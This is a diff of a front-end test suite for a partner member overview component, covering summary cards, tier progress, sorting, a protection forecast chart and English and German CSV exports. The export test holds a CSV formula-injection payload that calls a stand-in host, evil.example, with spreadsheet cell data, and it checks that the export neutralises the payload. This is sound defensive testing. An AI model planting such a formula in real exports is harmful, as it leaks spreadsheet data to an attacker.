@@ -108,6 +108,36 @@ async function mountOrg(org: Org, fetch?: typeof globalThis.fetch) {
   return { ...mounted, client };
 }
 
+/** RFC 4180 with the given separator: quoted cells, doubled quotes, CRLF rows — as a spreadsheet reads the file. */
+function parseCsv(text: string, separator: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i]!;
+    if (quoted) {
+      if (char === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"') quoted = true;
+    else if (char === separator) {
+      row.push(cell);
+      cell = '';
+    } else if (char === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += char;
+  }
+  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
+  return rows;
+}
+
 // The first request starts and seeds the 15,000-reseller sandbox: do it before the tests' own time limits apply.
 before(async function () {
   this.timeout(120_000);
@@ -237,6 +267,127 @@ describe('<partner-member-overview>', function () {
     await expect(el).to.be.accessible();
   });
 
+  it('links each summary card to the list with its query: the list total is the card count, in the card order', async () => {
+    const org = await midOrg();
+    const { el, client } = await mountOrg(org);
+    const summary = await client.organizations.summary(org.orgId);
+    for (const [cardPart, card] of [
+      ['protections', summary.protectionsEndingSoon],
+      ['close-to-next', summary.closeToNextTier],
+    ] as const) {
+      expect(card.count, `${cardPart} has members`).to.be.greaterThan(0);
+      const link = part(part(el, cardPart)!, 'card-link') ?? part(el, cardPart)!.querySelector<HTMLElement>('[part~="card-link"]')!;
+      expect(link.textContent!.replace(/\s+/g, ' ').trim()).to.equal(`Show all ${en.format(card.count)} in the list`);
+      link.click();
+      const total = await waitForTotal(el, client, org.orgId, card.query);
+      expect(total, `${cardPart}: list total = card count`).to.equal(card.count);
+      expect(countText(el)).to.equal(`${en.format(card.count)} of ${en.format(org.memberCount)} members match`);
+      // The filters say what the list shows: the card's segment and its order.
+      expect(shadow(el).querySelector<HTMLSelectElement>("select[name='segment']")!.value).to.equal(card.query.segment);
+      expect(shadow(el).querySelector<HTMLSelectElement>("select[name='sort']")!.value).to.equal(card.query.sort);
+      const first = card.members.slice(0, 3).map((member) => member.name);
+      expect(rowNames(el).slice(0, first.length), 'the card ranks as the list does').to.deep.equal(first);
+      expect(shadow(el).activeElement?.id, 'focus moves to the list').to.equal('members-heading');
+    }
+    await expect(el).to.be.accessible();
+  });
+
+  it('rows say how many of the next tier requirements are met and name one or two missing with their size', async () => {
+    const org = await midOrg();
+    const { el, client } = await mountOrg(org);
+    select(el, 'segment', 'close_to_next_tier');
+    select(el, 'sort', 'nextTierGap');
+    await waitForTotal(el, client, org.orgId, { segment: 'close_to_next_tier', sort: 'nextTierGap' });
+    const page = await client.organizations.members(org.orgId, { segment: 'close_to_next_tier', sort: 'nextTierGap', limit: 3 });
+    const withGaps = page.items.filter((member) => member.nextTierGaps.length > 0);
+    expect(withGaps.length, 'members missing one or two requirements').to.be.greaterThan(0);
+    const money = (amount: number) =>
+      new Intl.NumberFormat('en', { style: 'currency', currency: 'EUR', minimumFractionDigits: 0, maximumFractionDigits: 0 }).format(amount);
+    for (const member of withGaps) {
+      // Met and required counts as the member's own checklist gives them.
+      const checklist = (await client.partners.tierStatus(member.partnerId)).checklist!;
+      const row = rows(el)[page.items.indexOf(member)]!;
+      const text = row.querySelector('.cell--progress')!.textContent!.replace(/\s+/g, ' ').trim();
+      const tier = { silver: 'Silver', gold: 'Gold', platinum: 'Platinum', register: 'Register' }[checklist.tier];
+      expect(text).to.contain(`${checklist.metCount} of ${checklist.requiredCount} ${tier} requirements met`);
+      expect(text).to.contain('needs ');
+      for (const gap of member.nextTierGaps) {
+        if (gap.criterionId === 'revenue') expect(text).to.contain(`${money(gap.gap)} revenue`);
+        if (gap.criterionId === 'certified_technical') expect(text).to.contain(gap.gap === 1 ? '1 certified technician' : `${gap.gap} certified technicians`);
+      }
+    }
+    // Sortable columns say so before they are sorted.
+    const indicators = [...shadow(el).querySelectorAll<HTMLElement>("[role='columnheader'] .sort-indicator")];
+    expect(indicators.every((mark) => mark.textContent!.length > 0 && mark.offsetWidth > 0), 'every sortable column shows a mark').to.be.true;
+  });
+
+  it('sorts by progress with top-tier members last in both directions', async () => {
+    const all = await organizations();
+    const org = all[0]!;
+    expect(org.memberCount, 'a small organization: the whole list loads').to.be.lessThan(100);
+    const { el, client } = await mountOrg(org);
+    for (const sort of ['-progress', 'progress'] as const) {
+      select(el, 'sort', sort);
+      await waitForTotal(el, client, org.orgId, { sort });
+      const { items } = await client.organizations.members(org.orgId, { sort, limit: 100 });
+      const top = items.filter((member) => member.nextTier === null).length;
+      expect(top, 'the organization has top-tier members').to.be.greaterThan(0);
+      await scrollListToEnd(el, () => rows(el).some((row) => row.dataset.index === String(items.length - 1)), 'last row');
+      const last = rows(el).find((row) => row.dataset.index === String(items.length - 1))!;
+      expect(last.querySelector('.cell--progress')!.textContent!.trim(), `${sort}: last row`).to.equal('Highest tier');
+      expect(shadow(el).querySelector<HTMLElement>("[role='columnheader'].cell--progress")!.getAttribute('aria-sort')).to.equal(
+        sort === 'progress' ? 'ascending' : 'descending',
+      );
+    }
+  });
+
+  for (const lang of ['en', 'de'] as const) {
+    it(`shows when protection ends: today's tier mix beside the mix after each end date, as the API counts them (${lang})`, async () => {
+      document.documentElement.lang = lang;
+      const org = await bigOrg();
+      const { el, client } = await mountOrg(org);
+      const summary = await client.organizations.summary(org.orgId);
+      expect(summary.protectionForecast.length, 'protections end on several days').to.be.greaterThan(1);
+      const panel = part(el, 'forecast')!;
+      await waitForText(panel, lang === 'en' ? /When protection ends/ : /Wenn der Statusschutz endet/);
+      const nf = new Intl.NumberFormat(lang);
+      const day = (iso: string) => new Intl.DateTimeFormat(lang, { dateStyle: 'medium', timeZone: 'UTC' }).format(Date.parse(`${iso}T00:00:00Z`));
+      const names = { en: ['Register', 'Silver', 'Gold', 'Platinum'], de: ['Register', 'Silver', 'Gold', 'Platinum'] }[lang];
+      const tiers = ['register', 'silver', 'gold', 'platinum'] as const;
+      const mix = (counts: Record<(typeof tiers)[number], number>) => tiers.map((tier, i) => `${names[i]} ${nf.format(counts[tier])}`).join(', ');
+
+      // The chart: one image per bar, named with its counts — today, then the day after each end date.
+      const bars = [...panel.querySelectorAll('svg[role="img"]')].map((bar) => bar.getAttribute('aria-label'));
+      const after = (iso: string) => (lang === 'en' ? `After ${day(iso)}` : `Nach dem ${day(iso)}`);
+      expect(bars).to.deep.equal([
+        `${lang === 'en' ? 'Today' : 'Heute'}: ${mix(summary.tiers)}`,
+        ...summary.protectionForecast.map((ending) => `${after(ending.protectedUntil)}: ${mix(ending.tiersAfter)}`),
+      ]);
+
+      // The table: the same figures, plus who falls and who misses only one or two requirements.
+      const cells = (key: string) =>
+        [...panel.querySelectorAll(`tr[data-key="${key}"] td`)].map((cell) => cell.textContent!.trim());
+      expect(cells('today').slice(0, 4)).to.deep.equal(tiers.map((tier) => nf.format(summary.tiers[tier])));
+      for (const ending of summary.protectionForecast) {
+        expect(cells(ending.protectedUntil), ending.protectedUntil).to.deep.equal([
+          ...tiers.map((tier) => nf.format(ending.tiersAfter[tier])),
+          nf.format(ending.falling.count),
+          nf.format(ending.missingOne),
+          nf.format(ending.missingTwo),
+        ]);
+      }
+      const first = summary.protectionForecast[0]!;
+      const lead = textOf(panel.querySelector('.card__lead')!);
+      for (const figure of [first.falling.count, first.endingCount, first.missingOne, first.missingTwo]) expect(lead).to.contain(nf.format(figure));
+      // Tiers are told apart by shape and pattern too, never by colour alone; nothing needs a style attribute.
+      for (const tier of tiers) expect(panel.querySelector(`.forecast__legend .tier-icon--${tier}`), `${tier} shape in the legend`).to.exist;
+      expect(panel.querySelectorAll('.forecast__segment--gold .forecast__hatch').length, 'Gold is hatched').to.be.greaterThan(0);
+      expect(panel.querySelector('[style]')).to.not.exist;
+      panel.querySelector<HTMLDetailsElement>('details')!.open = true;
+      await expect(el).to.be.accessible();
+    });
+  }
+
   it('searches by name once the user pauses typing, and says when nothing matches', async () => {
     const org = await midOrg();
     const faults = new FetchFaults();
@@ -298,18 +449,71 @@ describe('<partner-member-overview>', function () {
       HTMLAnchorElement.prototype.click = originalClick;
     }
     expect(blobs).to.have.length(1);
-    expect(clicks[0]).to.match(/^members-.+\.csv$/);
-    const text = (await blobs[0]!.text()).replace(/^\uFEFF/, '');
-    const lines = text.trimEnd().split('\r\n');
-    expect(lines[0]).to.equal(
-      'Partner ID,Name,Country,Region,Current tier,Earned by results,Protected tier,Protected until,Next tier,Progress to next tier,Requirements missing',
+    const organization = await client.organizations.get(org.orgId);
+    const { asOf } = await client.organizations.summary(org.orgId);
+    expect(clicks[0], 'the organization name and the day name the file').to.equal(
+      `${organization.name.replace(/[^\p{L}\p{N}]+/gu, '-').replace(/^-+|-+$/g, '')}-members-${asOf}.csv`,
     );
-    expect(lines.length - 1, 'one line per member of the filtered list').to.equal(total);
-    const body = lines.slice(1);
-    expect(body.every((line) => /^[^,]+,.*,silver,/.test(line)), 'only silver members').to.be.true;
-    expect(body.some((line) => line.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"") `))).to.be.true;
-    expect(body.some((line) => line.includes(`,"""Müller"", Schmidt & Co `))).to.be.true;
-    expect(body.some((line) => /,=/.test(line.replace(/"[^"]*(""[^"]*)*"/g, '')))).to.be.false;
+    const text = (await blobs[0]!.text()).replace(/^\uFEFF/, '');
+    const [header, ...body] = parseCsv(text, ',');
+    expect(header).to.deep.equal([
+      'Name', 'Partner ID', 'Country', 'Region', 'Current tier', 'Earned by results', 'Protected tier', 'Protected until',
+      'Next tier', 'Progress to next tier', 'Requirements met', 'Missing for the next tier', 'Missing to keep the tier',
+    ]);
+    expect(body.length, 'one line per member of the filtered list').to.equal(total);
+    expect(body.every((row) => row.length === header!.length), 'every row has every column').to.be.true;
+    expect(body.every((row) => row[4] === 'Silver'), 'only Silver members, by name').to.be.true;
+    expect(body.some((row) => row[0]!.startsWith(`'=HYPERLINK("http://evil.example/?"&A1,"Click") `))).to.be.true;
+    expect(body.some((row) => row[0]!.startsWith(`"Müller", Schmidt & Co `))).to.be.true;
+    expect(body.some((row) => row.some((cell) => cell.startsWith('=')))).to.be.false;
+    expect(body.every((row) => /^\d+(\.\d)?%$/.test(row[9]!)), 'progress as a percentage').to.be.true;
+  });
+
+  it('exports a CSV that German Excel splits: `;`, decimal commas, German names, requirements named', async () => {
+    document.documentElement.lang = 'de';
+    const org = await midOrg();
+    const { el, client } = await mountOrg(org);
+    await waitForText(el, /Mitglieder je Stufe/);
+    const card = (await client.organizations.summary(org.orgId)).closeToNextTier;
+    part(el, 'close-to-next')!.querySelector<HTMLElement>('[part~="card-link"]')!.click();
+    expect(await waitForTotal(el, client, org.orgId, card.query)).to.equal(card.count);
+
+    const blobs: Blob[] = [];
+    const originalCreate = URL.createObjectURL;
+    const originalClick = HTMLAnchorElement.prototype.click;
+    URL.createObjectURL = (blob: Blob | MediaSource) => {
+      blobs.push(blob as Blob);
+      return originalCreate.call(URL, blob);
+    };
+    HTMLAnchorElement.prototype.click = function () {};
+    try {
+      part(el, 'export-button')!.click();
+      await waitForText(el, /\d+ Mitglieder exportiert|Exportiert/);
+      await waitUntil(() => blobs.length === 1, 'the file');
+    } finally {
+      URL.createObjectURL = originalCreate;
+      HTMLAnchorElement.prototype.click = originalClick;
+    }
+    const text = (await blobs[0]!.text()).replace(/^\uFEFF/, '');
+    const [header, ...body] = parseCsv(text, ';');
+    expect(header!.slice(0, 5)).to.deep.equal(['Name', 'Partner-ID', 'Land', 'Region', 'Aktuelle Stufe']);
+    expect(body.length, 'the card count').to.equal(card.count);
+    // In the card's order: the file follows the list.
+    expect(body.slice(0, 3).map((row) => row[0])).to.deep.equal(card.members.slice(0, 3).map((member) => member.name));
+    const policy = await client.program.get();
+    const regionNames = new Set(policy.regions.map((region) => region.name.de));
+    expect(body.every((row) => regionNames.has(row[3]!)), 'German region names').to.be.true;
+    expect(body.every((row) => /^\d+(,\d)? %$/.test(row[9]!)), `percentages with a decimal comma: ${body[0]![9]}`).to.be.true;
+    const named = body.filter((row) => row[11]!.startsWith('braucht '));
+    expect(named.length, 'missing requirements named').to.be.greaterThan(0);
+    const first = card.members.find((member) => member.nextTierGaps.length > 0)!;
+    const row = body.find((candidate) => candidate[1] === first.partnerId)!;
+    const gap = first.nextTierGaps[0]!;
+    if (gap.unit === 'money') {
+      const euro = new Intl.NumberFormat('de', { style: 'currency', currency: 'EUR', maximumFractionDigits: 0 }).format(gap.gap);
+      // The file has plain spaces where Intl writes no-break ones: a spreadsheet reads those as text.
+      expect(row[11]).to.contain(`${euro.replace(/[\u00a0\u202f]/g, ' ')} Umsatz`);
+    }
   });
 
   it('says so when the export fails, and tells the page', async () => {
@@ -365,6 +569,32 @@ describe('<partner-member-overview>', function () {
     part(el, 'close-button')!.click();
     await waitUntil(() => shadow(el).activeElement === summaryButton, 'focus back on the summary button');
   });
+
+  for (const lang of ['en', 'de'] as const) {
+    it(`tells a member's tier story in the third person, without the reseller's calls to action (${lang})`, async () => {
+      document.documentElement.lang = lang;
+      const org = await midOrg();
+      const { el, client } = await mountOrg(org);
+      const summary = await client.organizations.summary(org.orgId);
+      const member = summary.protectionsEndingSoon.members[0]!;
+      expect(member, 'a member lifted above what it earns').to.exist;
+      part(el, 'protections')!.querySelector<HTMLButtonElement>('.card__list button')!.click();
+      await el.updateComplete;
+      const checklist = part(el, 'detail')!.querySelector('next-tier-checklist')!;
+      const status = await client.partners.tierStatus(member.partnerId);
+      await waitUntil(() => checklist.shadowRoot?.querySelector('[part~="keep"]'), 'the keep section', { timeout: 8000 });
+      const text = textOf(checklist);
+      // Every message it renders speaks about the member: no second person in either language.
+      const secondPerson = lang === 'en' ? /\b(you|your|yours)\b/i : /\b(Sie|Ihr|Ihre|Ihren|Ihrer|Ihrem|Ihres)\b/;
+      expect(text.match(secondPerson), `second person in: ${text}`).to.equal(null);
+      const keep = status.keepChecklist!;
+      const tier = { register: 'Register', silver: 'Silver', gold: 'Gold', platinum: 'Platinum' }[keep.tier];
+      expect(text).to.contain(lang === 'en' ? `What keeps ${tier} after` : `Was ${tier} über den`);
+      expect(checklist.shadowRoot!.querySelector('[part~="actions"]'), 'no calls to action').to.not.exist;
+      expect(checklist.shadowRoot!.querySelector('[part~="what-if"]'), 'no what-if for the reseller').to.not.exist;
+      await expect(el).to.be.accessible();
+    });
+  }
 
   it('moves through rows with the arrow keys, Home and End; one row is in the tab order', async () => {
     const org = await bigOrg();
